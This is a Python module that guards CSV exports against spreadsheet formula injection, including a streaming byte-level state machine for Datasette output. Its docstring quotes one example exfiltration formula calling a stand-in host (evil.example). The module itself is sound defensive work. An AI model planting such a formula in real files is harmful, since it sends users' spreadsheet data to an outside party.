"""Spreadsheet formulas kept out of CSV cells: one rule for every CSV the project writes.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel
and LibreOffice (`=HYPERLINK("https://evil.example/?d="&A1,"klik")` sends the sheet away).
Such a cell gets a `'` in front, which a spreadsheet shows as text; a cell that already
starts with apostrophes before such a character gets one more, so `unguard` can take exactly
one off again (the registry's CSV import does). The write side's export (`registry.csvio`)
applies the same rule; the read side's Datasette plugin applies it to every CSV it streams,
so this module imports nothing of the project.
"""

from __future__ import annotations

import re

FORMULA = re.compile(r"^'*[=+\-@\t\r]")


def guard(value: str) -> str:
    return "'" + value if FORMULA.match(value) else value


def unguard(value: str) -> str:
    return value[1:] if value.startswith("'") and FORMULA.match(value) else value


_APOSTROPHES = re.compile(rb"'*")
# After a separator (an unquoted `\r` ends a row, it is no content). No `\A|` alternative:
# that made the search five times slower; a run gets a `,` in front instead.
_UNQUOTED_FORMULA = re.compile(rb"([,\r\n])('*[=+\-@\t])")
_UNQUOTED_REST = re.compile(rb"[^,\r\n]*")
# Up to the closing quote; `(?:[^"]|"")*` is the same, and three times slower.
_QUOTED_REST = re.compile(rb'[^"]*(?:""[^"]*)*')
_STARTS_QUOTED = frozenset(b"=+-@\t\r")
_SEPARATORS = frozenset(b",\r\n")
_CELL_START, _UNQUOTED, _QUOTED = range(3)


class CsvGuard:
    """`guard` applied to every cell of a CSV stream, fed in pieces as they are sent.

    The stream is what Python's `csv.writer` writes with its default dialect (`,` between
    cells, `"` around a cell that holds one of `,"\\r\\n`, `""` for a quote inside): Datasette's
    CSV. A cell, even its first characters, may be split over two pieces, so this is a small
    state machine: at the start of a cell, inside an unquoted cell, inside a quoted one. Only
    what cannot be decided yet (a cell of nothing but apostrophes so far, a quote that may be
    the first of `""`) is held back for the next piece. The unquoted cells up to the next
    quoted one are guarded by one regular expression, not one by one: 40 MB of Datasette's CSV
    in 0.6 s (Datasette took 1 s to write it). It works on UTF-8 bytes: every byte it looks
    at is ASCII, and no byte of a multi-byte character is.
    """

    def __init__(self) -> None:
        self._state = _CELL_START
        self._held = b""

    def feed(self, data: bytes, last: bool = False) -> bytes:
        """The guarded bytes of `data` that can be decided now (all of them if `last`)."""
        buf, self._held = self._held + data, b""
        out: list[bytes] = []
        pos, end = 0, len(buf)
        while pos < end:
            if self._state == _UNQUOTED:
                stop = _UNQUOTED_REST.match(buf, pos).end()
                if stop < end:  # a `,`, `\r` or `\n`: the next cell starts after it
                    stop += 1
                    self._state = _CELL_START
                out.append(buf[pos:stop])
                pos = stop
            elif self._state == _QUOTED:
                stop = _QUOTED_REST.match(buf, pos).end()
                if stop == end - 1 and not last:
                    out.append(buf[pos:stop])
                    self._held = buf[stop:]  # the closing quote, or the first of `""`
                    break
                if stop < end:  # past the closing quote and, as it should be, a separator
                    stop += 1
                    if stop < end and buf[stop] in _SEPARATORS:
                        stop += 1
                        self._state = _CELL_START
                    else:
                        self._state = _UNQUOTED
                out.append(buf[pos:stop])
                pos = stop
            elif buf[pos] == 0x22:  # '"': a quoted cell starts
                first = _APOSTROPHES.match(buf, pos + 1).end()
                if first == end and not last:
                    self._held = buf[pos:]  # its first character that counts is yet to come
                    break
                out.append(b"\"'" if first < end and buf[first] in _STARTS_QUOTED else b'"')
                out.append(buf[pos + 1:first])
                pos, self._state = first, _QUOTED
            else:  # unquoted cells, up to the next quoted one
                quote = buf.find(b'"', pos)
                stop = end if quote < 0 else quote
                run = buf[pos:stop]
                if quote < 0 and not last:
                    cut = max(run.rfind(b","), run.rfind(b"\r"), run.rfind(b"\n")) + 1
                    if not run[cut:].strip(b"'"):
                        self._held, run = run[cut:], run[:cut]  # nothing that counts yet
                    else:
                        self._state = _UNQUOTED  # its start is decided; the rest may follow
                out.append(_UNQUOTED_FORMULA.sub(rb"\1'\2", b"," + run)[1:])
                pos = stop
        return b"".join(out)
